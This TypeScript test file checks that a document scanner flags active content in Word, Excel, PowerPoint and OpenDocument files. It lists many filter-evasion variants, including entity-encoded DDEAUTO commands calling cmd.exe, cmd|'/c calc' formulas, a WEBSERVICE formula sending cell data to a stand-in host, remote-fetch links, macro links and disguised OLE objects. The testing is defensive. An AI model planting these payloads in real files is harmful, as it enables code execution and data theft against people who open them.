// Ways around a filter that looks for words in the text of a part: entities, other encodings, prefixes and names, cut pieces.
import { expect, test } from 'vitest'
import {
  anOfficeFile,
  anOpenDocument,
  field,
  instruction,
  openPart,
  part,
  type Parts,
  relation,
  relationships,
  schemas,
  sheetPart,
  wordPart,
  xml,
} from '../../testing/office-files.ts'
import { verdictOn } from './verdict.ts'

const main = 'word/document.xml'
const word = (body: string) => anOfficeFile('docx', { [main]: wordPart(body) })
const sheet = (body: string) =>
  anOfficeFile('xlsx', { 'xl/worksheets/sheet1.xml': sheetPart('worksheet', body) })
const cell = (formula: string) => sheet(`<sheetData><row r="1"><c r="A1">${formula}</c></row></sheetData>`)
const text = (body: string) => anOpenDocument('text', { 'content.xml': openPart(body) })
const table = (attributes: string) =>
  anOpenDocument('spreadsheet', { 'content.xml': openPart(`<table:table-cell ${attributes}/>`) })
const dde = wordPart(field(instruction('DDEAUTO c:\\cmd.exe')))
const wide = (body: string, order: 'le' | 'be', mark: string) => {
  const bytes = Buffer.from(mark + body.replace('UTF-8', 'UTF-16'), 'utf16le')
  return order === 'le' ? bytes : bytes.swap16()
}
const header = `application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml`
const withPart = (name: string, body: string | Uint8Array, type = header, more: Parts = {}) =>
  anOfficeFile('docx', { [name]: body, ...more }, { [name]: type })
const hdr = (body: string) => part('w:hdr', body)
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const run = (inside: string) => `<w:r>${inside}</w:r>`

test.each<[string, string, Buffer]>([
  ['references in an attribute', 'docx', word('<w:fldSimple w:instr="&#x44;&#x44;EAUTO c:\\a.exe"/>')],
  ['references in a text', 'docx', word(field(instruction('&#68;DEAUTO c:\\a.exe')))],
  ['a section of characters', 'docx', word(field(instruction('<![CDATA[DDEAUTO]]> c:\\a.exe')))],
  ['a comment in a word', 'docx', word(field(instruction('DD<!-- -->EAUTO c:\\a.exe')))],
  ['an order of processing in a word', 'docx', word(field(instruction('DD<?a b?>EAUTO c:\\a.exe')))],
  ['letters in several runs', 'docx', word(field(...['D', 'D', '&#x45;', 'AUTO x'].map(instruction)))],
  ['pieces of text in a field', 'docx', word(field(instruction('DD'), '<w:t>EAUTO c:\\a.exe</w:t>'))],
  [
    'pieces that a tracked change took out',
    'docx',
    word(field('<w:delInstrText>PAGE </w:delInstrText>', instruction('DDEAUTO c:\\a.exe'))),
  ],
  ['a padded instruction', 'docx', word(field(instruction(' '.repeat(9_000)), instruction('DDE a b')))],
  [
    'another field before it in the same field',
    'docx',
    word(run(mark('begin')) + mark('begin') + run(instruction('QUOTE DDE')) + mark('end') + mark('end')),
  ],
  [
    'a field in two versions',
    'docx',
    word(
      `${mark('begin')}<mc:AlternateContent><mc:Choice Requires="x">${run(instruction('PAGE '))}</mc:Choice><mc:Fallback>${run(instruction('DDE a b'))}</mc:Fallback></mc:AlternateContent>${mark('end')}`,
    ),
  ],
  ['a field without an end', 'docx', word(mark('begin') + run(instruction('DDEAUTO a b')))],
  ['letters of full width', 'docx', word(field(instruction('ＤＤＥＡＵＴＯ a b')))],
  [
    'a picture elsewhere, by reference',
    'docx',
    word(field(instruction('&#73;NCLUDEPICTURE https://a.example/b'))),
  ],
  ['a link to a share', 'docx', word(field(instruction('HYPERLINK "\\\\\\\\a.example\\\\share"')))],
  ['16 bits a letter, with a mark', 'docx', anOfficeFile('docx', { [main]: wide(dde, 'le', '\u{feff}') })],
  ['16 bits a letter, without', 'docx', anOfficeFile('docx', { [main]: wide(dde, 'le', '') })],
  [
    '16 bits the other way, with a mark',
    'docx',
    anOfficeFile('docx', { [main]: wide(dde, 'be', '\u{feff}') }),
  ],
  ['16 bits the other way, without', 'docx', anOfficeFile('docx', { [main]: wide(dde, 'be', '') })],
  [
    'another prefix',
    'docx',
    anOfficeFile('docx', {
      [main]: dde.replaceAll(/\bw:|(?<=xmlns:)w(?==)/g, (found) => found.replace('w', 'word')),
    }),
  ],
  [
    'no prefix at all',
    'docx',
    anOfficeFile('docx', {
      [main]: `${xml}<document xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"><instrText>DDE a b</instrText></document>`,
    }),
  ],
  ['a header of an unusual name', 'docx', withPart('word/hdr.dat', hdr(field(instruction('DDEAUTO a b'))))],
  [
    'a header of an unusual name with blanks before it',
    'docx',
    withPart('word/hdr.dat', '\n'.repeat(100) + hdr(field(instruction('DDE a b'))).replace(xml, '')),
  ],
  [
    'relations of an unusual name',
    'docx',
    withPart('word/rels.dat', relation('image', 'https://a.example/b.png')),
  ],
  [
    'relations with another prefix',
    'docx',
    anOfficeFile('docx', {
      'word/_rels/document.xml.rels': `${xml}<日:Relationships xmlns:日="${schemas}/package/2006/relationships"><日:Relationship Id="r1" Type="x/image" Target="http&#58;//a.example/" TargetMode="&#69;xternal"/></日:Relationships>`,
    }),
  ],
  [
    'a part elsewhere that says to be within',
    'docx',
    anOfficeFile('docx', {
      'word/_rels/document.xml.rels': relationships([['image', 'https://a.example/b.png']]),
    }),
  ],
  ['text of another file', 'docx', word('<w:altChunk r:id="r1"/>')],
  [
    'an object of another program under the name of a picture',
    'docx',
    anOfficeFile('docx', { 'word/media/image1.png': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
  ],
  [
    'a document with macros under the name of a picture',
    'docx',
    anOfficeFile('docx', {
      'word/media/image1.png': anOfficeFile('xlsx', { 'xl/vbaProject.bin': new Uint8Array([1]) }),
    }),
  ],
  [
    'a picture of an old drawing elsewhere',
    'docx',
    word('<w:pict><v:shape><v:imagedata src="https&#58;//a.example/b.png"/></v:shape></w:pict>'),
  ],
  [
    'an add-in',
    'docx',
    anOfficeFile('docx', {
      'word/a/ext1.xml': `${xml}<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"/>`,
    }),
  ],
  ['a program asked by a formula', 'xlsx', cell(`<f>cmd|'/c calc'!A0</f>`)],
  ['a program asked in a section of characters', 'xlsx', cell(`<f><![CDATA[cmd]]>&#124;'/c calc'!A0</f>`)],
  ['a program asked in quotes', 'xlsx', cell(`<f>'cmd|/c calc'!A0</f>`)],
  ['a function that fetches', 'xlsx', cell('<f>_xlfn.WEBSERVICE("https://a.example/?"&amp;A2)</f>')],
  ['a function that reads what was fetched', 'xlsx', cell('<f>FILTERXML(A1,"//a")</f>')],
  ['a function that imports', 'xlsx', cell('<f>IMPORT<!-- -->DATA("https://a.example")</f>')],
  ['a picture that is fetched', 'xlsx', cell('<f>_xlfn.IMAGE("https://a.example/b.png")</f>')],
  ['a server of data', 'xlsx', cell('<f>RTD("a.b",,"c")</f>')],
  ['a link that opens a program', 'xlsx', cell('<f>HYPERLINK("file:///c:/a.exe","price")</f>')],
  [
    'a name that fetches',
    'xlsx',
    sheet('<definedNames><definedName name="a">WEBSERVICE("https://a.example")</definedName></definedNames>'),
  ],
  [
    'a rule that fetches',
    'xlsx',
    sheet(
      '<dataValidations><dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation></dataValidations>',
    ),
  ],
  [
    'another file under an unusual name',
    'xlsx',
    anOfficeFile('xlsx', {
      'xl/a.xml': sheetPart('externalLink', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    }),
  ],
  [
    'another file of a workbook',
    'xlsx',
    anOfficeFile('xlsx', { 'xl/_rels/workbook.xml.rels': relationships([['externalLink', 'a.xml']]) }),
  ],
  [
    'a macro of another file',
    'xlsx',
    anOfficeFile('xlsx', {
      'xl/drawings/drawing1.xml': part('xdr:wsDr', `<xdr:sp macro="'C:\\a.xlsm'!b"/>`),
    }),
  ],
  [
    'a program behind a slide',
    'pptx',
    anOfficeFile('pptx', {
      'ppt/slides/slide1.xml': part('p:sld', '<a:hlinkClick r:id="" action="ppaction://program"/>'),
    }),
  ],
  [
    'a picture elsewhere, by reference',
    'odt',
    text('<draw:image xlink:href="https&#58;//a.example/b.png"/>'),
  ],
  [
    'a picture elsewhere, with a break in its address',
    'odt',
    text('<draw:image xlink:href="ht&#10;tps://a.example/b.png"/>'),
  ],
  ['a picture elsewhere, in other quotes', 'odt', text("<draw:image xlink:href='https://a.example/b.png'/>")],
  ['a picture of a share', 'odt', text('<draw:image xlink:href="//a.example/b.png"/>')],
  ['a fill elsewhere', 'odt', text('<draw:fill-image xlink:href="https://a.example/b.png"/>')],
  ['a link that runs', 'odt', text('<text:a xlink:href="vnd.sun.star&#46;script:a?language=Basic"/>')],
  ['a link to a macro', 'odt', text('<text:a xlink:href="macro:///Standard.Module1.Main()"/>')],
  [
    'a listener',
    'odt',
    text(
      '<office:event-listeners><s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/></office:event-listeners>',
    ),
  ],
  [
    'a script in the text',
    'odt',
    text(
      '<office:scripts><office:script script:language="ooo:Basic">Sub Main</office:script></office:scripts>',
    ),
  ],
  [
    'an object in the text',
    'odt',
    text('<draw:object-ole><office:binary-data>0M8R4KGx</office:binary-data></draw:object-ole>'),
  ],
  [
    'an object of another program',
    'odt',
    anOpenDocument('text', { 'Object 1': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
  ],
  [
    'a program asked by a formula',
    'ods',
    table('table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)"'),
  ],
  ['a function that fetches', 'ods', table('table:formula="of:=COM.MICROSOFT.WEB&#83;ERVICE([.A1])"')],
  ['a cell of another file', 'ods', table(`table:formula="of:=['file:///c:/a.ods'#$Sheet1.A1]"`)],
  [
    'a program behind a slide',
    'odp',
    anOpenDocument('presentation', {
      'content.xml': openPart('<presentation:event-listener presentation:action="execute"/>'),
    }),
  ],
  [
    'a drawing with a script',
    'docx',
    anOfficeFile('docx', {
      'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
    }),
  ],
  [
    'a drawing that fetches',
    'docx',
    anOfficeFile('docx', {
      'word/media/image1.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><style>a{b:url(https://a.example)}</style></svg>',
    }),
  ],
])('%s of a %s acts', async (_, ending, bytes) => {
  expect(await verdictOn(bytes, ending)).toBe('active')
})
